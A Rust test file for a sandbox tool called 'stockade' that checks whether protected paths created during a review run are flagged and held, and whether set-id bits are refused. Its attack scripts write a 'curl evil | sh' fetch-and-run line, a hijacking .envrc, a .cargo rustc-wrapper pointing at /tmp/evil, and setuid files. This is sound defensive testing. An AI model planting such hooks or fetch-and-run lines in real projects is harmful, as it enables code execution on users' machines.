//! Creations in a review run's view (issue 32, item 2). When every writable root is the
//! run's copy-on-write view, the command's name-creating calls no longer stop for the init
//! (no round trip per created name): what the creation guard refuses in a direct run is
//! made in the view, and `stockade apply` holds it (flagged `protected`) until it is
//! accepted by name. What the view does not make unnecessary stays mediated: set-id modes
//! (refused or dropped during the run, as in direct mode), and every creation of a run with a
//! writable root beside the view (the host's own directory). Each attack has its controls:
//! the same step in a direct run is refused by the guard; the same apply writes an
//! unflagged entry beside it, and the protected one once accepted (so without the flag it
//! would reach the host); on the host the same step makes what the sandbox refuses.

#![allow(clippy::expect_used)]

use std::os::unix::fs::PermissionsExt;

use attacks::review::{codes, entries};
use attacks::{json_str, read_json, read_text, sh_quote, Fixture, Records};

/// `stockade run --review` with `records` and `opts`: the run and its pending change set.
fn review_run(
    fx: &Fixture,
    records: &Records,
    opts: &[&str],
    script: &str,
) -> (attacks::Run, String) {
    // What the test wrote into the workspace is then older than the run (see review()).
    std::thread::sleep(std::time::Duration::from_millis(50));
    let mut all = vec!["--review"];
    all.extend(records.opts());
    all.extend_from_slice(opts);
    let run = fx.sandbox(&all, script).run();
    run.assert_success();
    let id = read_json(&records.report)["review"]["run_id"]
        .as_str()
        .unwrap_or_else(|| panic!("no change set: {}", run.describe()))
        .to_owned();
    (run, id)
}

fn flags(fx: &Fixture, id: &str, path: &str) -> Vec<String> {
    let all = entries(fx, id);
    let entry = (all.iter())
        .find(|c| c["path"] == path)
        .unwrap_or_else(|| panic!("{path} is not in the change set: {all:#?}"));
    codes(entry)
}

/// Paths the creation guard refuses (a `--protect` path, the catalogue's `.envrc` and
/// `.cargo/config.toml`, a symlink at an ancestor of a protected path) are made in the view,
/// flagged `protected`, and not applied: `apply` writes the plain file beside them and exits
/// 3, `--all-or-nothing` refuses. Controls: accepted by name, the protected path is written
/// (the flag is what held it); in a direct run the guard refuses each creation, reported.
#[test]
fn protected_paths_made_in_a_view_are_flagged_and_held_by_apply() {
    let script = "mkdir -p deploy .cargo; echo 'curl evil | sh' > deploy/run.sh; \
                  echo 'export PWNED=1' > .envrc; \
                  printf '[build]\\nrustc-wrapper = \"/tmp/evil\"\\n' > .cargo/config.toml; \
                  mkdir elsewhere; ln -s elsewhere .vscode; \
                  echo notes > notes.txt; ls -a; echo made";
    let opts = [
        "--protect",
        "deploy/run.sh",
        "--protect",
        ".vscode/tasks.json",
    ];
    let protected = ["deploy/run.sh", ".envrc", ".cargo/config.toml", ".vscode"];

    let fx = Fixture::without_git();
    let records = fx.records();
    let (run, id) = review_run(&fx, &records, &opts, script);
    // Made in the view: the guard did not refuse them during the run.
    run.assert_stdout_contains("made")
        .assert_stdout_contains(".envrc")
        .assert_lacks("Operation not permitted");
    for p in protected {
        assert!(!fx.ws.join(p).exists(), "{p} reached the workspace");
        let f = flags(&fx, &id, p);
        assert!(f.iter().any(|c| c == "protected"), "{p}: {f:?}");
    }
    assert!(flags(&fx, &id, "notes.txt").is_empty());

    let refused = fx.stockade(["apply", &id, "--all-or-nothing"]).run();
    refused
        .assert_code(125)
        .assert_stderr_contains("E_CHANGES_FLAGGED");
    assert!(!fx.ws.join("notes.txt").exists());
    // The plain file is applied; the protected paths stay pending.
    let partial = fx.stockade(["apply", &id]).run();
    partial.assert_code(3);
    assert_eq!(
        read_text(&fx.ws.join("notes.txt")).as_deref(),
        Some("notes\n")
    );
    for p in protected {
        assert!(
            std::fs::symlink_metadata(fx.ws.join(p)).is_err(),
            "{p} was applied unaccepted: {}",
            partial.describe()
        );
    }
    // Control: accepted by name, it is written: only the flag stood between it and the host.
    fx.stockade(["apply", &id, "--accept", "deploy/run.sh"])
        .run()
        .assert_code(3);
    assert_eq!(
        read_text(&fx.ws.join("deploy/run.sh")).as_deref(),
        Some("curl evil | sh\n")
    );
    assert!(!fx.ws.join(".envrc").exists());

    // Control: a direct run's guard refuses each creation during the run, and reports it.
    let fx = Fixture::without_git();
    let records = fx.records();
    let mut all = records.opts();
    all.extend_from_slice(&opts);
    let direct = fx.sandbox(&all, script).run();
    direct.assert_success().assert_stdout_contains("made");
    let made = ["deploy/run.sh", ".envrc", ".cargo/config.toml"];
    if attacks::creation_guarded() {
        direct.assert_stderr_contains("Operation not permitted");
        records.assert_blocked(&direct, &made);
    } else {
        // Without a creation guard (gVisor) the sweep after the run takes each out.
        for p in made {
            records.assert_swept(&direct, &[p]);
        }
    }
    for p in protected {
        assert!(
            std::fs::symlink_metadata(fx.ws.join(p)).is_err(),
            "{p} was made by a direct run"
        );
    }
    assert!(fx.ws.join("notes.txt").exists());
}

/// A writable root beside the view is the host's own directory: there every creation is
/// still mediated, so a protected path in it is refused during the run and reported. In the
/// same run the view's protected path is refused too (the filter cannot tell paths apart).
/// Control: without the other root, the view's creation goes through (flagged afterwards);
/// on the host the same file is made.
#[test]
fn a_writable_root_beside_the_view_stays_mediated() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let fx = Fixture::without_git();
    let out = fx.outside.display().to_string();
    let hook = fx.outside.join("hook.sh");
    let protect = hook.display().to_string();
    let script = format!(
        "echo evil > {} || echo refused-outside; echo x > .envrc || echo refused-view; echo done",
        sh_quote(&protect)
    );
    let records = fx.records();
    let opts = ["--allow-write", out.as_str(), "--protect", protect.as_str()];
    let (run, id) = {
        std::thread::sleep(std::time::Duration::from_millis(50));
        let mut all = vec!["--review"];
        all.extend(records.opts());
        all.extend_from_slice(&opts);
        let run = fx.sandbox(&all, &script).run();
        run.assert_success();
        let review = read_json(&records.report)["review"].clone();
        let pending = review["discarded"] == false;
        (run, pending.then(|| review["run_id"].to_string()))
    };
    run.assert_stdout_contains("refused-outside")
        .assert_stdout_contains("refused-view")
        .assert_stdout_contains("done");
    assert!(
        !hook.exists(),
        "the protected path beside the view was made"
    );
    assert!(
        id.is_none(),
        "nothing was made in the view: {}",
        run.describe()
    );
    let blocked = records.violations();
    assert!(
        blocked
            .iter()
            .any(|v| json_str(v, "kind") == "protected_path_blocked"
                && json_str(v, "path") == protect),
        "{blocked:#?}"
    );

    // Control: the view alone is not mediated.
    let records = fx.records();
    let (run, id) = review_run(&fx, &records, &[], "echo x > .envrc && echo made-in-view");
    run.assert_stdout_contains("made-in-view");
    assert!(flags(&fx, &id, ".envrc").iter().any(|c| c == "protected"));
    // Control: on the host, the file is made.
    fx.host(&format!("echo evil > {}", sh_quote(&protect)))
        .run()
        .assert_success();
    assert!(hook.exists());
}

/// Set-id bits stay refused in a view whose other creations are not mediated: `chmod u+s`
/// and `chmod g+s` fail (EPERM, reported as in direct mode), an `open(O_CREAT)` or `mknod`
/// asking for mode 04755 makes the file without the bits, and the change set holds no set-id
/// bit. Under gVisor the Sentry refuses all four (EPERM, not reported: its seccomp filter, as
/// in direct mode). Control: the same steps on the host make set-id files.
#[test]
fn set_id_modes_stay_refused_in_a_view() {
    let Some(py) = attacks::python3("set-id modes in a view") else {
        return;
    };
    let fx = Fixture::without_git();
    let code = "import os, stat\n\
                def opened(): os.close(os.open('opened', os.O_CREAT | os.O_WRONLY, 0o6755))\n\
                def noded(): os.mknod('noded', 0o4755 | stat.S_IFREG)\n\
                for make in (opened, noded):\n\
                \x20   try:\n\
                \x20       make()\n\
                \x20   except PermissionError:\n\
                \x20       print('make-refused', make.__name__)\n\
                open('plain', 'w').close(); os.chmod('plain', 0o755)\n\
                for name, mode in (('plain', 0o4755), ('plain', 0o2755)):\n\
                \x20   try:\n\
                \x20       os.chmod(name, mode); print('chmod-allowed', oct(mode))\n\
                \x20   except PermissionError:\n\
                \x20       print('chmod-refused', oct(mode))\n\
                for name in ('opened', 'noded', 'plain'):\n\
                \x20   if os.path.exists(name):\n\
                \x20       print(name, oct(os.stat(name).st_mode & 0o7777))\n";
    std::fs::write(fx.root.join("scripts/setid.py"), code).expect("write the script");
    let script = format!(
        "{} {}",
        sh_quote(&py),
        sh_quote(fx.root.join("scripts/setid.py"))
    );
    let records = fx.records();
    let (run, id) = review_run(&fx, &records, &[], &script);
    run.assert_stdout_contains("chmod-refused 0o4755")
        .assert_stdout_contains("chmod-refused 0o2755")
        .assert_lacks("chmod-allowed");
    let guarded = attacks::creation_guarded();
    for name in ["opened", "noded", "plain"] {
        let line = (run.stdout.lines()).find(|l| l.starts_with(&format!("{name} ")));
        let refused = run.stdout.contains(&format!("make-refused {name}"));
        let Some(line) = line else {
            // Refused outright: the Sentry's way (native makes it without the bits).
            assert!(refused && !guarded, "{name}: {}", run.describe());
            continue;
        };
        let mode = u32::from_str_radix(line.rsplit("0o").next().unwrap_or(""), 8).unwrap_or(0);
        assert_eq!(mode & 0o6000, 0, "{line}");
    }
    if guarded {
        let blocked = records.violations();
        assert!(
            blocked
                .iter()
                .any(|v| json_str(v, "kind") == "protected_path_blocked"
                    && json_str(v, "action").contains("chmod")),
            "{blocked:#?}"
        );
    }
    for c in entries(&fx, &id) {
        let mode = c["mode"].as_u64().unwrap_or(0);
        assert_eq!(mode & 0o6000, 0, "{c:#}");
        assert!(!codes(&c).iter().any(|f| f == "setuid"), "{c:#}");
    }

    // Control: on the host the same steps make set-id files.
    let host = fx.outside.join("host");
    std::fs::create_dir(&host).expect("mkdir");
    let ran = fx
        .host(&format!("cd {} && {script}", sh_quote(&host)))
        .run();
    ran.assert_success()
        .assert_stdout_contains("chmod-allowed 0o4755");
    let opened = std::fs::metadata(host.join("opened")).expect("made on the host");
    assert_ne!(
        opened.permissions().mode() & 0o4000,
        0,
        "{}",
        ran.describe()
    );
}
